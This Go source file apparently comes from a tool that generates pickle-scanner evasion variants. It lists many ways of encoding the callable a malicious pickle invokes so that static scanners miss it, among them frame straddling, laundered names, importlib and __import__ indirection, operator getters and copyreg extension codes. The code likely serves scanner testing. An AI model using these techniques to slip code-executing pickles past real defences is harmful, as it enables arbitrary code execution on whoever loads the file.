package evade

import (
	"strings"

	"github.com/prerun/prerun/internal/pickle"
)

// operands are the encodings of a string that STACK_GLOBAL accepts.
func operands() map[string]func(string) Instruction {
	return map[string]func(string) Instruction{
		"short-binunicode": short,
		"binunicode":       str,
		"binunicode8":      func(s string) Instruction { return counted(pickle.OpBinunicode8, 8, s) },
		"unicode":          func(s string) Instruction { return line(pickle.OpUnicode, escape(`\u%04x`, s)) },
		"string":           func(s string) Instruction { return line(pickle.OpString, "'"+escape(`\x%02x`, s)+"'") },
		"short-binstring":  func(s string) Instruction { return counted(pickle.OpShortBinstring, 1, s) },
		"binstring":        func(s string) Instruction { return counted(pickle.OpBinstring, 4, s) },
	}
}

// callees are ways to put the callable on the stack.
func callees() []Technique {
	way := func(name, row string, f func(*Draft)) Technique {
		return Technique{Name: name, Row: row, Takes: Target, Gives: Callee, Apply: f}
	}
	is := func(f func(c Call) []Instruction) func(*Draft) {
		return func(d *Draft) { d.Code = f(d.Call) }
	}
	all := []Technique{
		way("global", "4.1", is(func(c Call) []Instruction { return join(global(c.Module, c.Name)) })),
		way("dotted-global", "4.4#8", func(d *Draft) {
			d.protocols(4, 5)
			d.Code = join(global(d.Call.Host, d.Call.Module+"."+d.Call.Name))
		}),
		way("dotted-stack-global", "4.4#8", func(d *Draft) {
			d.protocols(4, 5)
			d.Code = join(short(d.Call.Host), short(d.Call.Module+"."+d.Call.Name), op(pickle.OpStackGlobal))
		}),
		way("python2-global", "4.4#9", func(d *Draft) {
			d.protocols(0, 2)
			d.Code = join(global(d.Call.Alias[0], d.Call.Alias[1]))
		}),
		way("python2-stack-global", "4.4#9", func(d *Draft) {
			d.protocols(0, 2)
			d.Code = join(short(d.Call.Alias[0]), short(d.Call.Alias[1]), op(pickle.OpStackGlobal))
		}),
		way("straddled-global", "4.4#13", is(func(c Call) []Instruction {
			// A frame ends in the middle of the module's name: read on, it has
			// a longer name; C drops the part in the frame.
			const junk = "mac"
			return join(op(pickle.OpFrame, le.AppendUint64(nil, uint64(1+len(junk)))...), global(junk+c.Module, c.Name))
		})),
		way("laundered-module", "4.4#6b", is(func(c Call) []Instruction {
			return join(
				short(c.Host), short(c.Module), op(pickle.OpStackGlobal), op(pickle.OpEmptyDict),
				short("laundered"), short(c.Module), op(pickle.OpSetitem), op(pickle.OpBuild), op(pickle.OpPop),
				short(c.Module), short("laundered"), op(pickle.OpStackGlobal), short(c.Name), op(pickle.OpStackGlobal))
		})),
		way("laundered-name", "4.4#6b", is(func(c Call) []Instruction {
			return join(
				global(c.Host, c.Module), op(pickle.OpNone), op(pickle.OpEmptyDict), str("laundered"), str(c.Name),
				op(pickle.OpSetitem), op(pickle.OpTuple2), op(pickle.OpBuild), op(pickle.OpPop),
				short(c.Module), global(c.Module, "laundered"), op(pickle.OpStackGlobal))
		})),
		way("computed-operand", "4.4#6b", is(func(c Call) []Instruction {
			// str.join's result is an exact str, which no reader sees.
			half := len(c.Name) / 2
			return join(
				str(c.Module),
				reduce("operator", "add", str(c.Name[:half]), str(c.Name[half:])), op(pickle.OpStackGlobal))
		})),
		way("resolve-name", "4.4#26", is(func(c Call) []Instruction {
			return reduce("pkgutil", "resolve_name", str(c.Module+":"+c.Name))
		})),
		way("import-module", "4.4#26", is(func(c Call) []Instruction {
			return reduce("builtins", "getattr", join(reduce("importlib", "import_module", str(c.Module)), str(c.Name))...)
		})),
		way("dunder-import", "4.4#26", is(func(c Call) []Instruction {
			return reduce("builtins", "getattr", join(reduce("builtins", "__import__", str(c.Module)), str(c.Name))...)
		})),
		way("locate", "4.4#26", is(func(c Call) []Instruction {
			return reduce("pydoc", "locate", str(c.Module+"."+c.Name))
		})),
		way("attrgetter", "4.4#26", is(func(c Call) []Instruction {
			return join(reduce("operator", "attrgetter", str(c.Name)),
				global(c.Host, c.Module), op(pickle.OpTuple1), op(pickle.OpReduce))
		})),
		way("methodcaller", "4.4#26", is(func(c Call) []Instruction {
			return join(reduce("operator", "methodcaller", str("__getattribute__"), str(c.Name)),
				global(c.Host, c.Module), op(pickle.OpTuple1), op(pickle.OpReduce))
		})),
		way("itemgetter", "4.4#26", is(func(c Call) []Instruction {
			return join(reduce("operator", "itemgetter", str(c.Name)),
				reduce("builtins", "vars", global(c.Host, c.Module)), op(pickle.OpTuple1), op(pickle.OpReduce))
		})),
		way("partial", "4.4#26", is(func(c Call) []Instruction {
			return reduce("functools", "partial", global(c.Module, c.Name))
		})),
	}
	for name, encoded := range sorted(operands()) {
		all = append(all, way("stack-global-"+name, "4.4#4", is(func(c Call) []Instruction {
			return join(encoded(c.Module), encoded(c.Name), op(pickle.OpStackGlobal))
		})))
	}
	for _, ext := range []struct {
		name string
		op   pickle.Op
		code int
	}{{"ext1", pickle.OpExt1, 0x42}, {"ext2", pickle.OpExt2, 0x4242}, {"ext4", pickle.OpExt4, 0x424242}} {
		width := map[pickle.Op]int{pickle.OpExt1: 1, pickle.OpExt2: 2, pickle.OpExt4: 4}[ext.op]
		use := op(ext.op, le.AppendUint32(nil, uint32(ext.code))[:width]...)
		all = append(all,
			way(ext.name+"-registered", "4.4#7", is(func(c Call) []Instruction {
				return join(reduce("copyreg", "add_extension", str(c.Module), str(c.Name), integer(ext.code)), op(pickle.OpPop), use)
			})),
			way(ext.name+"-written", "4.4#7", is(func(c Call) []Instruction {
				return join(global("copyreg", "_inverted_registry"), integer(ext.code), str(c.Module), str(c.Name),
					op(pickle.OpTuple2), op(pickle.OpSetitem), op(pickle.OpPop), use)
			})))
	}
	return append(all,
		Technique{Name: "inst", Row: "4.4#1", Takes: Target, Gives: Code, Apply: func(d *Draft) {
			d.Code = join(op(pickle.OpMark), str(d.Call.Argument), line(pickle.OpInst, d.Call.Module+"\n"+d.Call.Name))
		}},
		Technique{Name: "inst-python2", Row: "4.4#9", Takes: Target, Gives: Code, Apply: func(d *Draft) {
			d.protocols(0, 2)
			d.Code = join(op(pickle.OpMark), str(d.Call.Argument), line(pickle.OpInst, strings.Join(d.Call.Alias[:], "\n")))
		}},
		Technique{Name: "inst-dotted", Row: "4.4#8", Takes: Target, Gives: Code, Apply: func(d *Draft) {
			d.protocols(4, 5)
			d.Code = join(op(pickle.OpMark), str(d.Call.Argument), line(pickle.OpInst, d.Call.Host+"\n"+d.Call.Module+"."+d.Call.Name))
		}},
	)
}
